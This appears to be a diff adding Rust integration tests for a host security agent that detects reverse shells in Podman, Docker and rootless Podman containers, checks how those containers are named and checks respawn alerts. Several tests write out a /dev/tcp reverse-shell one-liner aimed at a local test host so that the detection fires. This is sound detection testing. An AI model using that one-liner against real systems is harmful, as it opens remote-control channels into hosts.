@@ -12,8 +12,23 @@
 //! - `enforce.kill` on a lineage alert in a container kills the shell and what it runs, never
 //!   the web app (PID 1), conmon or the container (confined: the only web server is the
 //!   test's own program, by a name nothing else uses; only lineage alerts are answered).
+//! - A container whose init the agent killed (a reverse shell as PID 1, `enforce.kill` on
+//!   `reverse_shell` only, to a test host) and that its restart policy
+//!   (`--restart=on-failure:1`) brings back is a `respawn` restarted by the runtime (Podman,
+//!   through a new `conmon`), and the alert names the container.
 //!
-//! Needs root, podman and runc (`scripts/setup.sh`); skips loudly otherwise.
+//! - A Docker container (Debian's docker.io, a dockerd of the test's own,
+//!   `tests/common/docker.rs`) with a reverse shell as its init is named in the alert and the
+//!   events as Docker's own `config.v2.json` gives it (id, name, image); so is an admin's
+//!   `docker exec`, which raises nothing.
+//!
+//! - A rootless Podman container (a throwaway user with subordinate ids, its own store under
+//!   its home) is named in the alert and the exec events (id, name, image): on these
+//!   hybrid-cgroup machines it has no cgroup of its own, and the agent finds it through its
+//!   `conmon`.
+//!
+//! Needs root, podman and runc, and docker.io for the Docker test (`scripts/setup.sh`); skips
+//! loudly otherwise.
 
 mod common;
 
@@ -377,4 +392,226 @@ fn the_connect_guard_covers_containers() {
         err.contains("Operation not permitted"),
         "connect() from the container was not refused by the guard: {out:?}"
     );
+}
+
+/// A child process killed and reaped on drop, even when the test fails.
+struct Reaped(std::process::Child);
+
+impl Drop for Reaped {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// A listener on RU4:`port` in the test hosts' namespace that accepts and holds connections.
+fn holding_listener(net: &TestNet, port: u16) -> Reaped {
+    let child = std::process::Command::new("ip")
+        .args(["netns", "exec", net.ns(), "/usr/bin/python3", "-c"])
+        .arg(format!(
+            "import socket\ns=socket.socket()\n\
+             s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
+             s.bind(('{RU4}', {port})); s.listen(50)\nheld=[]\n\
+             while True:\n    held.append(s.accept()[0])\n"
+        ))
+        .spawn()
+        .unwrap();
+    Reaped(child)
+}
+
+#[test]
+fn a_killed_container_init_restarted_by_its_policy_is_a_respawn_of_the_runtime() {
+    let test = "a_killed_container_init_restarted_by_its_policy_is_a_respawn_of_the_runtime";
+    if !require_root(test) || !available(test) {
+        return;
+    }
+    let _serial = serial();
+    let net = TestNet::new("r");
+    let cnet = ContainerNet::new(&net);
+    let Some(mut podman) = Podman::new() else {
+        return;
+    };
+    let _listener = holding_listener(&net, 4447);
+    let table = Table::new("ctr");
+    // Confined: only reverse shells are killed, and the only one is the container's, to the
+    // test's own host RU4 (the machine-wide test lock keeps other tests' away).
+    let agent = Agent::start_with(
+        "",
+        &format!(
+            "[containers]\npodman_storage = [\"{}\"]\n[trust]\nips = [\"198.51.100.96/28\"]\n\
+             [enforce]\ntable = \"{}\"\nconnect_guard = false\nkill = true\n\
+             kill_grace = \"1s\"\nkill_on = [\"reverse_shell\"]\n\
+             protect = [\"rustc\", \"cargo\", \"cc1\", \"ld\", \"sentinel\"]\n",
+            podman.storage().display(),
+            table.0
+        ),
+    );
+    let name = format!("snt-restart-{}", std::process::id());
+    let network = format!("--network={}", cnet.podman_network());
+    // PID 1 of the container is a reverse shell: sleep with its stdin and stdout on a socket
+    // to RU4. Restarted once after a failure (the kill).
+    let shell = format!("exec sleep 300 <>/dev/tcp/{RU4}/4447 >&0");
+    let id = podman.run(
+        &name,
+        &[&network, "--restart=on-failure:1"],
+        &["bash", "-c", &shell],
+    );
+    let first = agent.wait_for("alert", "the container's reverse shell", |a| {
+        a["anomaly"] == "reverse_shell" && a["container"]["id"] == id.as_str()
+    });
+    let first_pid = first["pid"].as_u64().unwrap();
+    let respawn = agent.wait_for("alert", "the restarted reverse shell as a respawn", |a| {
+        a["anomaly"] == "respawn" && a["container"]["id"] == id.as_str()
+    });
+    names_the_container(&respawn, &id, &name);
+    assert_ne!(respawn["pid"].as_u64().unwrap(), first_pid, "{respawn}");
+    let detail = respawn["detail"].as_str().unwrap_or("");
+    assert!(
+        detail.contains("/usr/bin/sleep came back")
+            && detail.contains("after the agent killed it")
+            && detail.contains(&format!(
+                "restarted by the container runtime podman (conmon), the restart policy of \
+                 container {name}"
+            )),
+        "{respawn}"
+    );
+    // The runtime did restart it: its own count says so.
+    let restarts = podman
+        .cmd()
+        .args(["inspect", "-f", "{{.RestartCount}}", &name])
+        .output()
+        .unwrap();
+    assert_eq!(String::from_utf8_lossy(&restarts.stdout).trim(), "1");
+    assert!(agent.status()["kills"].as_u64().unwrap_or(0) >= 1);
+}
+
+#[test]
+fn a_docker_container_is_named_as_dockers_own_config_gives_it() {
+    let test = "a_docker_container_is_named_as_dockers_own_config_gives_it";
+    if !require_root(test) || !common::docker::available(test) {
+        return;
+    }
+    let _serial = serial();
+    let net = TestNet::new("d");
+    let _listener = holding_listener(&net, 4449);
+    let Some(mut docker) = common::docker::Docker::start() else {
+        return;
+    };
+    let agent = Agent::start_with(
+        "",
+        &format!(
+            "[containers]\ndocker_root = \"{}\"\n",
+            docker.data_root().display()
+        ),
+    );
+    let name = format!("snt-docker-{}", std::process::id());
+    // The host's network (dockerd here has no bridge): the init is a reverse shell to RU4.
+    let shell = format!("exec sleep 300 <>/dev/tcp/{RU4}/4449 >&0");
+    let id = docker.run(&name, &["--network=host"], &["bash", "-c", &shell]);
+    let alert = agent.wait_for("alert", "the Docker container's reverse shell", |a| {
+        a["anomaly"] == "reverse_shell" && a["container"]["id"] == id.as_str()
+    });
+    // As Docker's own state says it.
+    let inspect = docker
+        .cmd()
+        .args(["inspect", "-f", "{{.Name}} {{.Config.Image}}", &name])
+        .output()
+        .unwrap();
+    let inspect = String::from_utf8_lossy(&inspect.stdout).trim().to_string();
+    assert_eq!(
+        inspect,
+        format!("/{name} {}", common::docker::IMAGE),
+        "docker inspect"
+    );
+    let names_it = |v: &Value| {
+        let c = container_of(v);
+        assert_eq!(c["id"], id.as_str(), "{v}");
+        assert_eq!(c["runtime"], "docker", "{v}");
+        assert_eq!(c["name"], name.as_str(), "{v}");
+        assert_eq!(c["image"], common::docker::IMAGE, "{v}");
+    };
+    names_it(&alert);
+    let exec = agent.wait_for("exec", "the container's init", |e| {
+        e["filename"].as_str().unwrap_or("").ends_with("/bash")
+            && e["argv"]
+                .to_string()
+                .contains(&format!("/dev/tcp/{RU4}/4449"))
+    });
+    names_it(&exec);
+    // The admin's `docker exec` is in the container too, below the shim, and raises nothing.
+    let out = docker.exec(&name, &["bash", "-c", "id; echo admin-was-here"]);
+    assert!(out.status.success(), "{out:?}");
+    let admin = agent.wait_for("exec", "the admin's shell", |e| {
+        e["filename"].as_str().unwrap_or("").ends_with("/bash")
+            && e["argv"].to_string().contains("admin-was-here")
+    });
+    names_it(&admin);
+    std::thread::sleep(Duration::from_secs(2));
+    let alerts = agent.events("alert");
+    assert!(
+        !alerts
+            .iter()
+            .any(|a| a["detail"].to_string().contains("admin-was-here")
+                || a["pid"] == admin["pid"]),
+        "the admin's exec raised an alert: {alerts:?}"
+    );
+}
+
+#[test]
+fn a_rootless_podman_container_is_named() {
+    let test = "a_rootless_podman_container_is_named";
+    if !require_root(test) || !available(test) {
+        return;
+    }
+    let _serial = serial();
+    let net = TestNet::new("u");
+    let _listener = holding_listener(&net, 4450);
+    if common::container::container_root().is_none() {
+        return;
+    }
+    let user = common::podman::RootlessUser::create();
+    user.import_image();
+    let agent = Agent::start_with("", "");
+    let name = format!("snt-rootless-{}", std::process::id());
+    // The host's network (no slirp4netns needed): the init is a reverse shell to RU4.
+    let shell = format!("exec sleep 300 <>/dev/tcp/{RU4}/4450 >&0");
+    let id = user.run(&name, &["--network=host"], &["bash", "-c", &shell]);
+    let alert = agent.wait_for("alert", "the rootless container's reverse shell", |a| {
+        a["anomaly"] == "reverse_shell" && a["container"]["id"] == id.as_str()
+    });
+    names_the_container(&alert, &id, &name);
+    let exec = agent.wait_for("exec", "the container's init", |e| {
+        e["filename"].as_str().unwrap_or("").ends_with("/bash")
+            && e["argv"]
+                .to_string()
+                .contains(&format!("/dev/tcp/{RU4}/4450"))
+    });
+    names_the_container(&exec, &id, &name);
+    // The store the name came from is the user's own (whichever driver Podman chose).
+    assert!(
+        ["overlay-containers", "vfs-containers"].iter().any(|d| user
+            .storage()
+            .join(d)
+            .join(&id)
+            .is_dir()),
+        "{id} is not in the user's store"
+    );
+    // Podman's own processes (the user's `podman`, conmon's `runc` and the cleanup it runs
+    // when the container exits) are the host's.
+    user.sh(&format!("podman rm -f -t 0 {name}"));
+    let cleanup = agent.wait_for("exec", "conmon's podman container cleanup", |e| {
+        e["filename"].as_str().unwrap_or("").ends_with("/podman")
+            && e["argv"].to_string().contains("cleanup")
+    });
+    let host = agent.events("exec");
+    let runtime = host.iter().filter(|e| {
+        let f = e["filename"].as_str().unwrap_or("");
+        f.ends_with("/podman") || f.ends_with("/runc") || f.ends_with("/conmon")
+    });
+    for e in runtime.chain([&cleanup]) {
+        assert!(
+            e["container"].is_null(),
+            "a runtime process put in the container: {e}"
+        );
+    }
 }
